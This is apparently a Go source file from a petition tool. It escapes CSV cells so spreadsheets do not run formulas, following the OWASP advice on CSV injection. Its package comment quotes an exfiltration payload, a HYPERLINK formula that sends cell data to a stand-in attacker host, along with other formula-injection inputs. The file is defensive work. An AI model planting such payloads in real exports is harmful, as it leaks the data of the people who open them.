// Package csvsafe writes CSV that a spreadsheet opens as data, never as
// formulas: every CSV faxjam writes (petition exports, the petition
// server's and the hub's text/csv exports, --rejects files, status
// receipts) goes through it.
//
// Signers type notes and e-mails that may start with = + - @, and a note
// such as =HYPERLINK("http://evil.example/?"&A2,"Click") sends the
// organizer's data out of the spreadsheet that opens it ("CSV injection",
// "formula injection"). Cell escapes a value the way OWASP recommends: a
// value whose first character is = + - @, a tab or a carriage return gets a
// single quote in front, which spreadsheets show as text and do not
// evaluate. Leading spaces and line feeds do not hide the character
// (spreadsheets skip them), and neither do the full-width forms ＝ ＋ － ＠.
// A value that is just a number ("+12025550142", "-3") is left alone: it
// evaluates to itself. Normalization trims a leading tab from a note, so
// `\t=1+1` is stored as "=1+1", which is escaped like any other.
//
// A Writer with raw set writes values verbatim, for scripts (--raw).
package csvsafe

import (
	"bufio"
	"io"
	"strings"
	"unicode/utf8"
)

// triggers are the first characters that make a spreadsheet evaluate a cell.
const triggers = "=+-@\t\r＝＋－＠"

// Cell returns v as it may go into a spreadsheet cell: with a single quote
// in front when a spreadsheet would take it for a formula, else unchanged.
func Cell(v string) string {
	if v == "" || isNumber(v) {
		return v
	}
	first, _ := utf8.DecodeRuneInString(strings.TrimLeft(v, " \n"))
	if strings.ContainsRune(triggers, first) {
		return "'" + v
	}
	return v
}

// isNumber reports whether v is a plain number: an optional sign, digits,
// at most one dot.
func isNumber(v string) bool {
	s := strings.TrimLeft(v, "+-")
	if len(v)-len(s) > 1 || s == "" {
		return false
	}
	dot := false
	for i := 0; i < len(s); i++ {
		switch c := s[i]; {
		case c == '.' && !dot:
			dot = true
		case c < '0' || c > '9':
			return false
		}
	}
	return s != "."
}

// Writer writes CSV (RFC 4180) with every field quoted, each cell through
// Cell unless raw. Quoting every field, not only those with a comma, keeps
// a cell whole where a spreadsheet splits on another separator: in a
// semicolon locale a note ";=1+1;" written unquoted becomes three cells,
// the middle one a formula. encoding/csv quotes only what a comma reader
// needs, and has no option to quote always, so the fields are written
// here; it is what reads them back (the tests check the round trip).
type Writer struct {
	w   *bufio.Writer
	raw bool
	err error
}

// NewWriter returns a Writer on w; raw writes values verbatim (still
// quoted).
func NewWriter(w io.Writer, raw bool) *Writer {
	return &Writer{w: bufio.NewWriter(w), raw: raw}
}

// Write writes one record, escaping each cell unless the Writer is raw.
func (w *Writer) Write(record []string) error {
	if w.err != nil {
		return w.err
	}
	for i, v := range record {
		if !w.raw {
			v = Cell(v)
		}
		if i > 0 {
			w.w.WriteByte(',')
		}
		w.w.WriteByte('"')
		w.w.WriteString(strings.ReplaceAll(v, `"`, `""`))
		w.w.WriteByte('"')
	}
	_, w.err = w.w.WriteString("\n")
	return w.err
}

// Flush writes any buffered data to the underlying writer.
func (w *Writer) Flush() {
	if err := w.w.Flush(); err != nil && w.err == nil {
		w.err = err
	}
}

// Error reports an error of a previous Write or Flush.
func (w *Writer) Error() error { return w.err }
